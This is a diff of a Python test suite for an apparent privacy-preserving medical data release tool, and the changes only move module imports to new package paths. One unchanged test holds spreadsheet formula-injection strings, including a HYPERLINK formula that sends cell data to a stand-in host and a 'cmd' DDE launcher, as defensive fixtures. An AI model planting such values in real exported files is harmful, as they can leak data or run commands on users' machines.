@@ -17,12 +17,12 @@ import pytest
 import yaml
 
 from flows.release import ReleaseRequest, release_flow
-from medrelease.aggregate import aggregate_frame
+from medrelease.data.aggregate import aggregate_frame
+from medrelease.data.taxonomy import SUPPRESSED, from_leaf_paths
 from medrelease.errors import BudgetExceededError
-from medrelease.ledger import Ledger, LedgerSourceError
-from medrelease.publication import PUBLISHED, STEWARD_ONLY, BoundaryError, split_facts
+from medrelease.privacy.ledger import Ledger, LedgerSourceError
+from medrelease.privacy.publication import PUBLISHED, STEWARD_ONLY, BoundaryError, split_facts
 from medrelease.release import PublicFacts, release_from_counts
-from medrelease.taxonomy import SUPPRESSED, from_leaf_paths
 from schemas.manifest import PublicManifest
 
 from .conftest import ROOT
@@ -64,15 +64,15 @@ def test_publication_audit_flags_the_paper_mechanism() -> None:
 
 def test_neighbour_diff_catches_an_input_derived_field_put_back(tmp_path, monkeypatch) -> None:
     """Put the input's row count back into the manifest (as the old code did): flagged."""
-    import medrelease.audit_publication
-    import medrelease.publication
+    import medrelease.evidence.audit_publication
+    import medrelease.privacy.publication
     import tasks.publish
     from flows.audit import inspect_pair
-    from medrelease.audit_publication import write_audit_dataset
-    from medrelease.publication import Basis, PublishedField
+    from medrelease.evidence.audit_publication import write_audit_dataset
+    from medrelease.privacy.publication import Basis, PublishedField
 
     leaky = {**PUBLISHED, "input_rows": PublishedField(Basis.PUBLIC, "put back by mistake")}
-    for module in (medrelease.publication, medrelease.audit_publication):
+    for module in (medrelease.privacy.publication, medrelease.evidence.audit_publication):
         monkeypatch.setattr(module, "PUBLISHED", leaky)
     monkeypatch.setattr(tasks.publish, "PublicManifest", _permissive_manifest())
     config = write_audit_dataset(tmp_path / "dataset", "ipa")
@@ -115,8 +115,8 @@ def _extract(path: Path, rows: int = 3000) -> Path:
 def test_a_seeded_release_is_a_test_release_and_never_blocks_the_arrival(home: Path,
                                                                          tmp_path) -> None:
     from flows.arrival import arrival_release_flow
-    from medrelease.inbox import InboxWatcher
-    from medrelease.io import file_sha256
+    from medrelease.storage.inbox import InboxWatcher
+    from medrelease.storage.io import file_sha256
 
     extract = _extract(tmp_path / "extract.csv")
     test = release_flow(ReleaseRequest(input_path=str(extract), seed=4, evaluate=False))
@@ -212,7 +212,7 @@ def test_histogram_draws_once_and_reports_that_draw(home: Path) -> None:
 
 
 def test_published_csv_is_inert_in_a_spreadsheet(tmp_path: Path) -> None:
-    from medrelease.store import ReleaseStore
+    from medrelease.storage.store import ReleaseStore
 
     table = pd.DataFrame({"dx": ['=HYPERLINK("http://x"&A2,"x")', "+cmd|' /C calc'!A0",
                                  "@SUM(1)", "-2+3", "-5", "A001"]})
@@ -224,7 +224,7 @@ def test_published_csv_is_inert_in_a_spreadsheet(tmp_path: Path) -> None:
 
 
 def test_audit_is_inconclusive_at_or_above_what_its_runs_can_detect() -> None:
-    from medrelease.audit import detection_ceiling, run_audit
+    from medrelease.evidence.audit import detection_ceiling, run_audit
 
     assert detection_ceiling(200) == pytest.approx(3.28, abs=0.01)
     result = run_audit("ipa", 4.0, runs=40, seed=1, design="tipping")
